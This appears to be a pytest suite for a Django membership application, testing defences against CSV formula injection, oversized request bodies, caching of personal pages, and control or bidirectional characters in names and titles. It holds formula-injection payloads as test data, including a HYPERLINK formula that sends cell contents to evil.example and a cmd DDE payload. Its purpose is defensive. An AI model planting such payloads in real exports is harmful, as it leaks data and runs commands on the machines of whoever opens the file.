"""Insider tests for promise 7 (docs/security.md §7): bounded, well-formed input and safe
exports. Findings 14 (formula injection in CSV exports), 16 (huge bodies, over-long and
control characters in titles and names) and part of 18 (no caching of personal pages).
Run on SQLite and, with DATABASE_URL set, on PostgreSQL."""

from __future__ import annotations

import csv
import datetime
import io
import json
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from accounts.world import World
from moot.csv_export import FORMULA_PREFIXES, csv_text, neutralise_cell, restore_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _client(world: World, role: str) -> Client:
    client = Client()
    client.force_login(world.users[role])
    return client


def _rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8"))))


# --- finding 14: one CSV writer that neutralises formula prefixes ---------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_the_csv_writer_neutralises_each_formula_prefix_and_restores_it(value: str) -> None:
    written = neutralise_cell(value)
    assert written == "'" + value
    [row] = _rows(csv_text(["cell"], [[value]]).encode())[1:]
    assert not row[0].startswith(FORMULA_PREFIXES)
    assert restore_cell(row[0]) == value


def test_plain_values_numbers_and_apostrophes_are_written_as_they_are() -> None:
    assert neutralise_cell("Ada") == "Ada"
    assert neutralise_cell(-5) == -5
    assert neutralise_cell(None) == ""
    assert restore_cell("'quoted") == "'quoted"  # not an apostrophe the writer added


def test_the_members_export_neutralises_formulas_and_still_imports(world: World) -> None:
    target = world.target
    target.first_name = HOSTILE[0]
    target.last_name = "@Lovelace"
    target.phone = "+44 1632 960001"
    target.save()
    response = _client(world, "secretary").get(
        reverse("members:export"), {"unit": world.riverside.pk}
    )
    assert response.status_code == 200
    rows = _rows(response.content)
    header, body = rows[0], rows[1:]
    [row] = [r for r in body if r[header.index("number")] == target.number]
    for column in ("first_name", "last_name", "phone"):
        assert not row[header.index(column)].startswith(FORMULA_PREFIXES), column
    assert row[header.index("first_name")] == "'" + HOSTILE[0]
    # The import reads back exactly what was stored: the same row under a new number.
    from moot.members.actions import do_import_members
    from moot.members.models import Member

    row[header.index("number")] = "X0000001"
    # Recorded today, so the copy is not a back-dated membership (the register's authority).
    today = timezone.localdate().isoformat()
    row[header.index("joined_on")] = row[header.index("status_since")] = today
    again = csv_text(header, [[restore_cell(cell) for cell in row]])
    report = do_import_members(
        again, unit_default=None, dry_run=False, acting_user=world.users["national_staff"]
    )
    assert report.created == 1, report.errors
    copy = Member.objects.get(number="X0000001")
    assert (copy.first_name, copy.last_name, copy.phone) == (
        HOSTILE[0],
        "@Lovelace",
        "+44 1632 960001",
    )


def test_no_module_writes_csv_with_the_bare_csv_writer() -> None:
    """Every export goes through moot.csv_export (the counting package, which imports nothing
    of moot, writes only counts and candidate names it was given, and is outside this rule)."""
    from pathlib import Path

    import moot

    root = Path(moot.__file__).parent
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "counting" not in path.parts
        and path.name != "csv_export.py"
        and ("csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text())
    ]
    assert offenders == []


# --- finding 16: request bodies have a limit ------------------------------------------------


def test_a_3mb_json_body_gets_a_json_413_not_a_500(world: World) -> None:
    body = json.dumps({"title": "x" * (3 * 1024 * 1024)})
    response = _client(world, "secretary").post(
        "/api/affiliations/", data=body, content_type="application/json"
    )
    assert response.status_code == 413
    assert response["Content-Type"].startswith("application/json")
    detail = response.json()["detail"]
    assert "limit is 1,048,576 bytes" in detail


def test_a_huge_form_post_gets_a_plain_413_page(world: World) -> None:
    response = _client(world, "secretary").post(
        reverse("members:import"), data={"notes": "x" * (2 * 1024 * 1024)}
    )
    assert response.status_code == 413
    assert response["Content-Type"].startswith("text/html")
    assert "at most 1,048,576 bytes" in response.content.decode()


def test_a_chunked_form_body_over_the_limit_is_413_too(world: World, settings: Any) -> None:
    """No Content-Length: Django's own limit (DATA_UPLOAD_MAX_MEMORY_SIZE) stops the read."""
    from moot.site.middleware import RequestSizeLimitMiddleware

    assert settings.DATA_UPLOAD_MAX_MEMORY_SIZE == settings.MOOT_MAX_BODY_BYTES
    from django.core.exceptions import RequestDataTooBig
    from django.test import RequestFactory

    request = RequestFactory().post("/members/import/", data={"a": "b"})
    request.user = world.users["secretary"]
    middleware = RequestSizeLimitMiddleware(lambda r: None)  # type: ignore[arg-type,return-value]
    response = middleware.process_exception(request, RequestDataTooBig("too big"))
    assert response is not None
    assert response.status_code == 413


# --- finding 18 (part): no-store on answers to a signed-in caller ---------------------------


@pytest.mark.parametrize(
    "path",
    [
        lambda w: reverse("members:detail", args=[w.target.pk]),
        lambda w: f"/api/members/{w.target.pk}",
        lambda w: "/api/members/me",
        lambda w: reverse("dashboard"),
    ],
    ids=["member page", "member API", "own record API", "dashboard"],
)
def test_answers_with_personal_data_are_not_stored(world: World, path: Any) -> None:
    response = _client(world, "secretary").get(path(world))
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]


def test_an_api_token_answer_is_not_stored(world: World) -> None:
    from moot.accounts.actions import do_create_api_token

    user = world.users["secretary"]
    _, raw = do_create_api_token(user, name="script", acting_user=user)
    response = Client().get(f"/api/members/{world.target.pk}", HTTP_AUTHORIZATION=f"Bearer {raw}")
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]


def test_a_public_answer_to_an_anonymous_caller_is_left_cacheable(world: World) -> None:
    response = Client().get("/healthz")
    assert response.status_code == 200
    assert "no-store" not in response.get("Cache-Control", "")
    signed_in = _client(world, "member").get("/healthz")
    assert "no-store" in signed_in["Cache-Control"]


# --- finding 16: lengths and characters of names and titles ---------------------------------

BAD_TITLES = [
    ("x" * 100_000, "at most 200 characters"),
    ("AGM\x00", "NUL byte (U+0000)"),
    ("AGM\nfake second line", "line break (U+000A)"),
    ("AGM \u202eevil", "right-to-left override"),
]


@pytest.mark.parametrize(("title", "said"), BAD_TITLES, ids=["long", "nul", "newline", "bidi"])
def test_the_api_refuses_a_bad_title_naming_the_field_and_writes_nothing(
    world: World, title: str, said: str
) -> None:
    from moot.meetings.models import Meeting

    payload = {
        "unit": "riverside",
        "kind": "agm",
        "starts_at": "2099-06-01T19:00:00Z",
        "title": title,
    }
    response = _client(world, "secretary").post(
        "/api/meetings/", data=json.dumps(payload), content_type="application/json"
    )
    assert response.status_code == 422
    body = response.json()
    [problem] = [e for e in body["errors"] if e["field"] == "title"]
    assert said in problem["message"] + " " + problem["fix"]
    assert not Meeting.objects.exists()


@pytest.mark.parametrize(("title", "said"), BAD_TITLES, ids=["long", "nul", "newline", "bidi"])
def test_the_schedule_form_refuses_a_bad_title_and_writes_nothing(
    world: World, title: str, said: str
) -> None:
    from moot.meetings.models import Meeting

    response = _client(world, "secretary").post(
        reverse("meetings:schedule"),
        {"unit": world.riverside.pk, "kind": "agm", "title": title, "date": "2099-06-01"},
    )
    assert response.status_code in (200, 400)  # the form again, with its errors
    text = response.content.decode()
    if said.startswith("at most"):
        assert "at most 200 characters" in text
    else:
        assert "Title: character" in text
        assert said.split(" (", maxsplit=1)[0] in text
    assert not Meeting.objects.exists()


def test_a_motion_text_may_have_line_breaks_but_no_control_characters() -> None:
    from moot.text import text_problem

    assert (
        text_problem(
            "Conference notes:\n\n1. that …\twith a tab", single_line=False, max_length=None
        )
        == ""
    )
    assert "escape" not in text_problem("a\x1bb", single_line=False, max_length=None)
    assert text_problem("a\x1bb", single_line=False, max_length=None).startswith("character 2")


def test_the_member_form_refuses_a_bidi_override_in_a_name(world: World) -> None:
    from moot.members.forms import MemberForm

    form = MemberForm(
        data={"first_name": "Ada\u202e", "last_name": "Lovelace", "joined_on": "2020-01-01"},
        instance=world.target,
    )
    assert not form.is_valid()
    assert "First name: character 4 is a bidirectional control" in form.errors["first_name"][0]


def test_the_import_refuses_a_nul_in_a_name_naming_row_and_column(world: World) -> None:
    from moot.members.actions import do_import_members

    text = "first_name,last_name,joined_on\nAda,Love\x00lace,2020-01-05\n"
    report = do_import_members(
        text, unit_default=world.riverside, dry_run=True, acting_user=world.users["national_staff"]
    )
    [error] = [e for e in report.errors if e.column == "last_name"]
    assert error.row == 2
    assert "NUL byte" in error.message


# --- finding 15: a meeting's notice is sent by moot or recorded with a reason ---------------


def _general_meeting_in(world: World, days: int) -> Any:
    from moot.meetings.actions import do_create_meeting

    day = timezone.localdate() + datetime.timedelta(days=days)
    starts = timezone.make_aware(datetime.datetime.combine(day, datetime.time(19, 0)))
    return do_create_meeting(
        unit=world.riverside,
        kind="agm",
        starts_at=starts,
        location="Hall",
        acting_user=world.users["secretary"],
    )


def test_a_typed_past_notice_date_no_longer_satisfies_the_notice_rule(world: World) -> None:
    """An AGM ten days ahead needs longer notice: a notice date typed into the API or the form
    used to satisfy the rule unseen; now the field is gone and the date is today."""
    from moot.meetings.models import Meeting

    month_ago = (timezone.localdate() - datetime.timedelta(days=30)).isoformat()
    day = (timezone.localdate() + datetime.timedelta(days=10)).isoformat()
    client = _client(world, "secretary")
    api = client.post(
        "/api/meetings/",
        data=json.dumps(
            {
                "unit": "riverside",
                "kind": "agm",
                "starts_at": f"{day}T19:00:00Z",
                "location": "Hall",
                "notice_sent_on": month_ago,
            }
        ),
        content_type="application/json",
    )
    # The field is refused by name, not ignored (review finding M).
    assert api.status_code == 422
    assert [e["field"] for e in api.json()["errors"]] == ["notice_sent_on"]
    page = client.post(
        reverse("meetings:schedule"),
        {
            "unit": world.riverside.pk,
            "kind": "agm",
            "date": day,
            "time": "19:00",
            "attendance_mode": "in_person",
            "location": "Hall",
            "notice_sent_on": month_ago,
        },
    )
    assert page.status_code in (200, 400)
    assert not Meeting.objects.exists()


def test_a_notice_sent_outside_moot_is_recorded_with_a_reason_and_shown(world: World) -> None:
    from moot.audit.models import AuditEvent
    from moot.meetings.actions import do_record_outside_notice
    from moot.meetings.errors import MeetingError
    from moot.meetings.models import Meeting

    meeting = _general_meeting_in(world, 60)
    # Scheduled in moot three days ago: a notice is sent on or after that day (finding I).
    Meeting.objects.filter(pk=meeting.pk).update(
        created_at=timezone.now() - datetime.timedelta(days=3)
    )
    meeting.refresh_from_db()
    client = _client(world, "secretary")
    url = reverse("meetings:record_outside_notice", args=[meeting.pk])
    sent = timezone.localdate() - datetime.timedelta(days=2)
    assert client.post(url, {"sent_on": sent.isoformat(), "reason": ""}).status_code == 400
    with pytest.raises(MeetingError, match="future"):
        do_record_outside_notice(
            meeting,
            timezone.localdate() + datetime.timedelta(days=1),
            reason="posted",
            acting_user=world.users["secretary"],
        )
    meeting.refresh_from_db()
    assert meeting.notice_sent_on is None
    done = client.post(url, {"sent_on": sent.isoformat(), "reason": "posted with the newsletter"})
    assert done.status_code == 302
    meeting.refresh_from_db()
    assert meeting.notice_sent_on == sent
    event = AuditEvent.objects.get(verb="meetings.record_outside_notice")
    assert event.reason == "posted with the newsletter"
    text = client.get(reverse("meetings:detail", args=[meeting.pk])).content.decode()
    assert "recorded as sent outside moot on" in text
    assert "posted with the newsletter" in text
    again = client.post(url, {"sent_on": sent.isoformat(), "reason": "twice"})
    assert "already recorded" in again.content.decode()


def test_an_affiliation_decision_with_a_control_character_is_refused(world: World) -> None:
    from moot.units.models import Affiliation

    payload = {
        "unit": "riverside",
        "organisation": "any",
        "start": "2026-01-01",
        "decision": "Carried at the GC\x1b[2J",
    }
    response = _client(world, "secretary").post(
        "/api/affiliations/", data=json.dumps(payload), content_type="application/json"
    )
    assert response.status_code == 422
    [problem] = [e for e in response.json()["errors"] if e["field"] == "decision"]
    assert "control character (U+001B)" in problem["message"]
    assert not Affiliation.objects.exists()


def test_the_minutes_sections_added_per_meeting_are_checked_too() -> None:
    from types import SimpleNamespace

    from moot.meetings.forms import MinutesForm

    minutes = SimpleNamespace(sections=[{"key": "open", "title": "Opening", "paragraphs": ["x"]}])
    form = MinutesForm(data={"section-open": "Opened at 19:02.\n\nA \u202etrick"}, minutes=minutes)
    assert not form.is_valid()
    assert "Opening: character 21 is a bidirectional control" in str(form.errors)
    fine = MinutesForm(data={"section-open": "Opened at 19:02.\n\n\tQuorate."}, minutes=minutes)
    assert fine.is_valid(), fine.errors
